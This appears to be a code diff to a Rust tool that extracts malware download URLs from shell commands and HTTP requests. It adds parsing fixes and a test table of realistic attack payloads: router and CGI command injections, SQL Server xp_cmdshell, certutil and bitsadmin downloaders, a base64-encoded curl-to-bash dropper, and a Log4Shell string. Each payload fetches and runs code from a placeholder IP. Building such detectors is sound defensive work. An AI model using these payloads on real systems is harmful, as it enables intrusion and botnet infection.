@@ -223,9 +223,16 @@ fn looks_like_server(w: &[u8]) -> bool {
             .iter()
             .all(|l| l.len() <= 3 && std::str::from_utf8(l).ok().and_then(|s| s.parse::<u8>().ok()).is_some());
     }
+    // File names are not servers: `wget bins.sh` is not `http://bins.sh/`.
+    const NOT_TLD: &[&[u8]] = &[
+        b"sh", b"exe", b"bin", b"py", b"pl", b"elf", b"arm", b"arm5", b"arm6", b"arm7", b"mips", b"mpsl", b"ppc",
+        b"x86", b"m68k", b"sparc", b"sh4", b"tgz", b"gz", b"tar", b"zip", b"txt", b"php", b"ps1", b"bat", b"dll",
+    ];
     valid_name(h)
         && labels.len() >= 2
-        && labels.last().is_some_and(|t| t.len() >= 2 && t.iter().all(u8::is_ascii_alphabetic))
+        && labels
+            .last()
+            .is_some_and(|t| t.len() >= 2 && t.iter().all(u8::is_ascii_alphabetic) && !NOT_TLD.contains(&&lower(t)[..]))
         && !labels.iter().any(|l| l.is_empty())
 }
 
@@ -847,6 +854,19 @@ fn resolve(words: &[&[u8]]) -> (Prog, usize) {
         if (cron || w.contains(&b'=')) && k + 1 < words.len() {
             k += 1;
             continue;
+        }
+        // An unknown leading word (`EXEC master..xp_cmdshell`, the user field of a system
+        // crontab line, a SQL or script wrapper): a download client later in the same
+        // command is still the program.
+        for (j, w) in words.iter().enumerate().skip(k + 1) {
+            if let Some(p) = classify(&prog_name(w)) {
+                if matches!(
+                    p,
+                    Prog::Wget | Prog::Curl | Prog::Fetch | Prog::UrlThenFile | Prog::PsWeb | Prog::Tftp | Prog::Ftpget
+                ) {
+                    return (p, j + 1);
+                }
+            }
         }
         return (Prog::Other, k + 1);
     }
@@ -1485,12 +1505,12 @@ impl Scan<'_> {
                             );
                         }
                     } else {
-                        for p in &wa.positionals {
+                        for p in wa.positionals.iter().filter(|_| urls.is_empty()) {
                             if !contains_ci(p, b"://") && looks_like_server(p) {
                                 let end = url_end(p, 0);
                                 if let Some(url) = parse_url(Scheme::Http, &p[..end]) {
                                     let hit = UrlHit { start: cmd.start, end: cmd.start, line_start: cmd.start, url };
-                                    let name = if urls.is_empty() { out.clone() } else { None };
+                                    let name = out.clone();
                                     self.emit_url(&hit, name, prog, cmd.start);
                                 }
                             }
@@ -1899,6 +1919,57 @@ mod tests {
             b"see (http://bare.example/p.exe), and ftp://192.0.2.9/q.",
             &["http bare.example - - - /p.exe p.exe", "ftp 192.0.2.9 - - - q q"],
         );
+    }
+
+    /// More real-world forms: (attack with `\r\n` written literally, expected).
+    const FIELD: &[(&str, &[&str])] = &[
+        ("GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://10.0.0.1/mips;${IFS}sh${IFS}/var/tmp/mips HTTP/1.1\r\n\r\n",
+            &["http 10.0.0.1 - - - /mips mips"]),
+        ("POST /tmUnblock.cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nttcp_ip=-h+%60cd+%2Ftmp%3B+rm+-rf+mpsl%3B+wget+http%3A%2F%2F198.51.100.1%2Fmpsl%3B+chmod+777+mpsl%3B+.%2Fmpsl+linksys%60&action=&ttcp_num=2",
+            &["http 198.51.100.1 - - - /mpsl mpsl"]),
+        ("GET /language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://198.51.100.2/ar;sh${IFS}/tmp/ar&>r&&tar${IFS}/string.js HTTP/1.0\r\n\r\n",
+            &["http 198.51.100.2 - - - /ar ar"]),
+        ("POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewInternalClient>`cd /var; rm -rf nabirt; wget http://198.51.100.3/nabirt; chmod 777 nabirt; ./nabirt realtek.selfrep`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>",
+            &["http 198.51.100.3 - - - /nabirt nabirt"]),
+        ("POST /boaform/admin/formPing HTTP/1.1\r\n\r\ntarget_addr=;wget http://198.51.100.5/x -O /tmp/s;chmod 777 /tmp/s;/tmp/s&waninf=1_INTERNET_R_VID_154",
+            &["http 198.51.100.5 - - - /x s"]),
+        ("GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F198.51.100.6%2Fzero;sh%20zero;%22 HTTP/1.1\r\n\r\n",
+            &["http 198.51.100.6 - - - /zero zero"]),
+        ("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n",
+            &["http 198.51.100.7 8080 - - /bins/mirai.arm dvrHelper"]),
+        ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php system('wget http://198.51.100.10/p.sh -O- | sh'); ?>",
+            &["http 198.51.100.10 - - - /p.sh p.sh"]),
+        ("xp_cmdshell 'powershell -c \"(new-object System.Net.WebClient).DownloadFile(''http://198.51.100.12/a.exe'',''C:\\ProgramData\\a2.exe'')\"'",
+            &["http 198.51.100.12 - - - /a.exe a2.exe"]),
+        ("EXEC master..xp_cmdshell 'certutil -urlcache -split -f http://198.51.100.13/b.exe %TEMP%\\b2.exe'",
+            &["http 198.51.100.13 - - - /b.exe b2.exe"]),
+        ("cmd /c bitsadmin /transfer x http://198.51.100.14/c.exe %APPDATA%\\c2.exe&start %APPDATA%\\c2.exe",
+            &["http 198.51.100.14 - - - /c.exe c2.exe"]),
+        ("nohup $(curl -s http://198.51.100.17/k.sh || wget -q -O - http://198.51.100.17/k.sh) | bash > /dev/null 2>&1 &",
+            &["http 198.51.100.17 - - - /k.sh k.sh"]),
+        ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://198.51.100.18/t+-O-|sh`) HTTP/1.1\r\n\r\n",
+            &["http 198.51.100.18 - - - /t t"]),
+        ("GET /shell?cd%20/tmp%20%7C%7C%20cd%20/var/run%3B%20wget%20http%3A//198.51.100.20/jaws.sh%3B%20chmod%20777%20jaws.sh%3B%20sh%20jaws.sh HTTP/1.1\r\n\r\n",
+            &["http 198.51.100.20 - - - /jaws.sh jaws.sh"]),
+        ("echo \"d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yMi9zLnNoIC1PIC90bXAvcy5zaA==\"|base64 -d|bash",
+            &["http 198.51.100.22 - - - /s.sh s.sh"]),
+        ("cd /tmp; busybox tftp -r mipsel -g 198.51.100.30 69; chmod 777 mipsel", &["tftp 198.51.100.30 69 - - mipsel mipsel"]),
+        ("python -c \"import urllib;urllib.urlretrieve('http://198.51.100.32/py','/tmp/py')\"", &["http 198.51.100.32 - - - /py py"]),
+        ("POST /x HTTP/1.1\r\n\r\n<cmd>cd /tmp &amp;&amp; wget http://198.51.100.36/h.sh &amp;&amp; sh h.sh</cmd>",
+            &["http 198.51.100.36 - - - /h.sh h.sh"]),
+        ("CMD.EXE /C \"echo open 198.51.100.39 21 >> c.txt && echo user hax0r pw >> c.txt && echo binary >> c.txt && echo get mal.exe >> c.txt && echo quit >> c.txt && ftp -n -s:c.txt && mal.exe\"",
+            &["ftp 198.51.100.39 21 hax0r pw mal.exe mal.exe"]),
+        ("GET /cgi-bin/admin.cgi?Command=sysCommand&Cmd=wget%20-qO-%20https://198.51.100.40:8443/s.sh%7Csh HTTP/1.1\r\n\r\n",
+            &["https 198.51.100.40 8443 - - /s.sh s.sh"]),
+        ("GET /${jndi:ldap://198.51.100.11:1389/Exploit} HTTP/1.1\r\n\r\n", &[]),
+        ("cd /tmp; wget bins.sh; wget 198.51.100.44", &["http 198.51.100.44 - - - / index.html"]),
+    ];
+
+    #[test]
+    fn field_forms() {
+        for (a, want) in FIELD {
+            check(a.replace("\\r\\n", "\r\n").as_bytes(), want);
+        }
     }
 
     #[test]
